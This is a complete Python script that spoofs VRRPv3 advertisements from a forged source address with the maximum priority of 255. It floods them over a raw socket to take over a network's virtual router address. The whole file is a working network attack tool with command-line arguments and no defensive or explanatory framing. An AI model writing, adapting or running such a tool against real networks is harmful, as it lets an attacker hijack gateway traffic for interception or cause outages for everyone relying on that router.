"""Send VRRP advertisements in the name of another host: `advert.py SOURCE TARGET ADDRESS ID SECONDS`. Needs root."""

import socket
import struct
import sys
import time

VRRP = 112
HIGHEST = 255
INTERVAL_CS = 20


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def advert(source: bytes, target: bytes, address: bytes, group: int) -> bytes:
    """An IPv4 packet with a VRRPv3 advertisement of the highest priority."""
    body = struct.pack("!BBBBHH4s", 0x31, group, HIGHEST, 1, INTERVAL_CS, 0, address)
    pseudo = source + target + struct.pack("!HH", VRRP, len(body))
    body = body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 255, VRRP, 0, source, target)
    return header + body


def main() -> None:
    source, target, address = map(socket.inet_aton, sys.argv[1:4])
    packet = advert(source, target, address, int(sys.argv[4]))
    until = time.monotonic() + float(sys.argv[5])
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while time.monotonic() < until:
            raw.sendto(packet, (sys.argv[2], 0))
            time.sleep(0.1)


if __name__ == "__main__":
    main()
